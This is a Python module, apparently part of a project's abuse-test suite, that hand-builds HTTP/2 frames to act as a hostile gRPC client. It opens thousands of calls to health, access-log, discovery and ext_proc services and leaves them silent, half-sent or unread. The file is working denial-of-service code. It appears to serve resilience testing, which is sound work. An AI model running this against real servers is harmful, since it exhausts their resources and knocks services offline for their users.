"""A hostile client of gRPC below its messages: calls that say nothing or half a message, or read nothing.

HTTP/2 by hand (RFC 9113), as no library sends this.
"""

from __future__ import annotations

import asyncio
import contextlib
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Final

from bench.abuse import control, discovery
from bench.abuse.ext_proc_messages import CHECK as LEADING
from bench.abuse.ext_proc_messages import METHOD as PROCESS
from bench.abuse.sending import send
from fleet.names import TYPE_ENDPOINT

if TYPE_CHECKING:
    from collections.abc import Callable

    from bench.abuse.sending import Sent

CHECK: Final = "/grpc.health.v1.Health/Check"
WATCH: Final = "/grpc.health.v1.Health/Watch"
ACCESS_LOG: Final = "/envoy.service.accesslog.v3.AccessLogService/StreamAccessLogs"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _GOAWAY, _WINDOW = 0, 1, 3, 4, 6, 7, 8
_END_STREAM, _ACK, _END_HEADERS = 1, 1, 4
_FRAME_BYTES: Final = 16_384
_WINDOW_BYTES: Final = 65_535
_PAUSE_SECONDS: Final = 0.01
_OPEN_AT_ONCE: Final = 100


def message(content: bytes, announced: int | None = None) -> bytes:
    """Return a message as gRPC frames it, or the beginning of a longer one."""
    size = len(content) if announced is None else announced
    return b"\0" + size.to_bytes(4, "big") + content


@dataclass(frozen=True, slots=True)
class Kind:
    """What each call is sent, as it stands on the wire, and whether anything is read."""

    path: str
    payload: Callable[[], bytes] = bytes
    reads: bool = True


def _half(path: str, size: int) -> Kind:
    return Kind(path, lambda: message(bytes(size - 100), size))


_ASK: Final = message(discovery.ask(type_url=TYPE_ENDPOINT))
KINDS: Final[dict[str, Kind]] = {
    "silent_check": Kind(CHECK),
    "silent_logs": Kind(ACCESS_LOG),
    "silent_status": Kind(discovery.STATUS.replace("Stream", "Fetch")),
    "watches": Kind(WATCH, lambda: message(b"")),
    "half_check": _half(CHECK, 2_000_000),
    "half_names": _half(discovery.METHOD, 2_000_000),
    "half_report": _half(control.FOLLOW, 1_000_000),
    "half_body": _half(PROCESS, 16_000_000),
    "half_leading": _half(LEADING, 16_000_000),
    "silent_requests": Kind(PROCESS),
    "silent_leading": Kind(LEADING),
    "unread": Kind(discovery.METHOD, lambda: _ASK, reads=False),
}

OF_EXT_PROC: Final = ("half_body", "half_leading", "silent_requests", "silent_leading")
"""Kinds for ext_proc's door."""


def _literal(name: str, value: str) -> bytes:
    """A header without indexing (RFC 7541, section 6.2.2)."""
    made = b"\0"
    for text in (name.encode(), value.encode()):
        assert len(text) < 127, "a longer one needs more than one byte of length"
        made += bytes([len(text)]) + text
    return made


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame of HTTP/2 (RFC 9113, section 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


@dataclass(slots=True)
class Peer:
    """One connection: opens calls, sends within the peer's flow-control windows, and counts ended calls."""

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    opened: int = 0
    ended: set[int] = field(default_factory=set)
    gone: bool = False
    _window: int = _WINDOW_BYTES
    _first_window: int = _WINDOW_BYTES
    _windows: dict[int, int] = field(default_factory=dict)
    _table_update: bytes = b""
    """Begins the first header block after the peer has emptied the table (RFC 7541, section 4.2)."""

    @classmethod
    async def connect(cls, address: str, *, reads: bool = True) -> Peer:
        """Connect to a gRPC server's address; one that does not read has windows of nothing."""
        if address.startswith("unix:"):
            made = cls(*await asyncio.open_unix_connection(address.removeprefix("unix:")))
        else:
            host, _, port = address.rpartition(":")
            made = cls(*await asyncio.open_connection(host, int(port)))
        window = b"" if reads else (4).to_bytes(2, "big") + bytes(4)
        made.writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0, window))
        return made

    def call(self, path: str) -> int:
        """Open a call; returns its stream."""
        stream = 2 * self.opened + 1
        self.opened += 1
        self._windows[stream] = self._first_window
        fixed = ((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "abuse"))
        more = (("content-type", "application/grpc"), ("te", "trailers"))
        block = b"".join((self._table_update, *(_literal(name, value) for name, value in (*fixed, *more))))
        self._table_update = b""
        self.writer.write(frame(_HEADERS, _END_HEADERS, stream, block))
        return stream

    async def send(self, stream: int, payload: bytes) -> int:
        """Send all of it, or as much as goes until the call ends; returns the bytes sent."""
        sent = 0
        while sent < len(payload) and stream not in self.ended and not self.gone:
            size = min(_FRAME_BYTES, len(payload) - sent, self._window, self._windows[stream])
            if size <= 0:
                await asyncio.sleep(_PAUSE_SECONDS)
                continue
            self.writer.write(frame(_DATA, 0, stream, payload[sent : sent + size]))
            sent += size
            self._window -= size
            self._windows[stream] -= size
            await self.writer.drain()
        return sent

    async def listen(self) -> None:
        """Take what comes, until the connection ends."""
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            while True:
                head = await self.reader.readexactly(9)
                payload = await self.reader.readexactly(int.from_bytes(head[:3], "big"))
                self._take(head[3], head[4], int.from_bytes(head[5:], "big"), payload)
        self.gone = True

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == _SETTINGS and not flags & _ACK:
            self._settings(payload)
            self.writer.write(frame(_SETTINGS, _ACK, 0))
        elif kind == _PING and not flags & _ACK:
            self.writer.write(frame(_PING, _ACK, 0, payload))
        elif kind == _WINDOW and stream == 0:
            self._window += int.from_bytes(payload, "big")
        elif kind == _WINDOW and stream in self._windows:
            self._windows[stream] += int.from_bytes(payload, "big")
        elif kind == _RESET or (kind == _HEADERS and flags & _END_STREAM):
            self.ended.add(stream)

    def _settings(self, payload: bytes) -> None:
        for at in range(0, len(payload), 6):
            name, value = int.from_bytes(payload[at : at + 2], "big"), payload[at + 2 : at + 6]
            if name == 1 and not any(value):  # SETTINGS_HEADER_TABLE_SIZE
                self._table_update = b"\x20"
            if name == 4:  # SETTINGS_INITIAL_WINDOW_SIZE
                more = int.from_bytes(value, "big") - self._first_window
                self._first_window += more
                for stream in self._windows:
                    self._windows[stream] += more


async def attack(
    address: str,
    kind: str,
    *,
    calls: int = 10_000,
    connections: int = 2,
    most_bytes: int = 1 << 30,
    seconds: float = 10.0,
) -> int:
    """Open calls of one of `KINDS` and leave them open; return the bytes sent."""
    how = KINDS[kind]
    payload = how.payload()

    async def connect(sent: Sent) -> None:
        peer = await Peer.connect(address, reads=how.reads)
        listening = asyncio.create_task(peer.listen())
        try:
            await asyncio.sleep(_PAUSE_SECONDS)
            while peer.opened < calls // connections and not sent.full and not peer.gone:
                stream = peer.call(how.path)
                sent.bytes += await peer.send(stream, payload)
                if peer.opened % _OPEN_AT_ONCE == 0:
                    await peer.writer.drain()
                    await asyncio.sleep(_PAUSE_SECONDS)
            await listening
        finally:
            listening.cancel()
            peer.writer.close()

    return await send(connect, connections=connections, most_bytes=most_bytes, seconds=seconds, again=False)
